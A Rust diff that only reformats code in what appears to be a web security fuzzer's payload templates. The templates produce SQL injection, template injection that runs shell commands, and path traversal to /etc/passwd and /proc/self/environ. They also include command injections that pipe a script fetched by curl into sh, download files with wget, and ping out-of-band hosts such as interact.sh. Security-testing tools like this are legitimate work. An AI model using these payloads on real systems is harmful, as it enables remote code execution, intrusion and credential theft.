@@ -32,18 +32,39 @@ impl Template {
     /// A template drawn from the seed.
     pub fn pick(r: &mut Rng) -> Template {
         let family = *r.pick(&[Family::Sqli, Family::Cmdi, Family::Ssti, Family::Traversal]);
-        Template { family, idx: r.below(5) }
+        Template {
+            family,
+            idx: r.below(5),
+        }
     }
 
     /// The template filled with fresh values, appended to `base` where it makes sense.
     pub fn render(&self, r: &mut Rng, base: &str) -> String {
         let n = r.range(1, 99);
         let m = r.range(2, 9);
-        let host = format!("{}.{}", r.lower(6), r.pick(&["oast.fun", "interact.sh", "requestcatcher.com", "burpcollaborator.net"]));
-        let ip = format!("{}.{}.{}.{}", r.range(45, 210), r.range(1, 254), r.range(1, 254), r.range(1, 254));
+        let host = format!(
+            "{}.{}",
+            r.lower(6),
+            r.pick(&[
+                "oast.fun",
+                "interact.sh",
+                "requestcatcher.com",
+                "burpcollaborator.net"
+            ])
+        );
+        let ip = format!(
+            "{}.{}.{}.{}",
+            r.range(45, 210),
+            r.range(1, 254),
+            r.range(1, 254),
+            r.range(1, 254)
+        );
         match (self.family, self.idx) {
             (Family::Sqli, 0) => format!("{base}' OR '{n}'='{n}"),
-            (Family::Sqli, 1) => format!("{base}' UNION SELECT {}--", vec!["NULL"; m as usize].join(",")),
+            (Family::Sqli, 1) => format!(
+                "{base}' UNION SELECT {}--",
+                vec!["NULL"; m as usize].join(",")
+            ),
             (Family::Sqli, 2) => format!("{base}' AND SLEEP({m})-- -"),
             (Family::Sqli, 3) => format!("{base}'; WAITFOR DELAY '0:0:{m}'--"),
             (Family::Sqli, _) => format!("{base}' AND (SELECT {n} FROM (SELECT(SLEEP({m})))x)-- "),
@@ -51,17 +72,27 @@ impl Template {
             (Family::Cmdi, 1) => format!("{base} | nslookup {n}.{host}"),
             (Family::Cmdi, 2) => format!("$(curl -s http://{ip}/{}.sh | sh)", r.lower(5)),
             (Family::Cmdi, 3) => format!("{base}`sleep {m}`"),
-            (Family::Cmdi, _) => format!("{base} && wget http://{ip}:{}/{} -O /tmp/{}", r.range(1024, 9999), r.lower(6), r.lower(4)),
+            (Family::Cmdi, _) => format!(
+                "{base} && wget http://{ip}:{}/{} -O /tmp/{}",
+                r.range(1024, 9999),
+                r.lower(6),
+                r.lower(4)
+            ),
             (Family::Ssti, 0) => format!("{{{{{n}*{m}}}}}"),
             (Family::Ssti, 1) => format!("${{{n}*{m}}}"),
             (Family::Ssti, 2) => format!("<%= {n}*{m} %>"),
-            (Family::Ssti, 3) => format!("{{{{ cycler.__init__.__globals__.os.popen('{}').read() }}}}", r.pick(&["id", "whoami", "env", "uname -a"])),
+            (Family::Ssti, 3) => format!(
+                "{{{{ cycler.__init__.__globals__.os.popen('{}').read() }}}}",
+                r.pick(&["id", "whoami", "env", "uname -a"])
+            ),
             (Family::Ssti, _) => format!("#{{{n}*{m}}}"),
             (Family::Traversal, 0) => format!("{}etc/passwd", "../".repeat(m as usize)),
             (Family::Traversal, 1) => format!("{}etc%2fpasswd", "..%2f".repeat(m as usize)),
             (Family::Traversal, 2) => format!("{}etc/passwd", "....//".repeat(m as usize)),
             (Family::Traversal, 3) => format!("{}proc/self/environ", "../".repeat(m as usize)),
-            (Family::Traversal, _) => format!("{}var/task/index.js", "%2e%2e%2f".repeat(m as usize)),
+            (Family::Traversal, _) => {
+                format!("{}var/task/index.js", "%2e%2e%2f".repeat(m as usize))
+            }
         }
     }
 
@@ -123,7 +154,8 @@ pub(crate) fn inject(inv: &mut Invocation, route: Route, value: &str, carrier: C
             }
             inv.body = Some(body.to_string());
             if !inv.headers.iter().any(|(k, _)| k == "content-type") {
-                inv.headers.push(("content-type".into(), "application/json".into()));
+                inv.headers
+                    .push(("content-type".into(), "application/json".into()));
             }
         }
     }
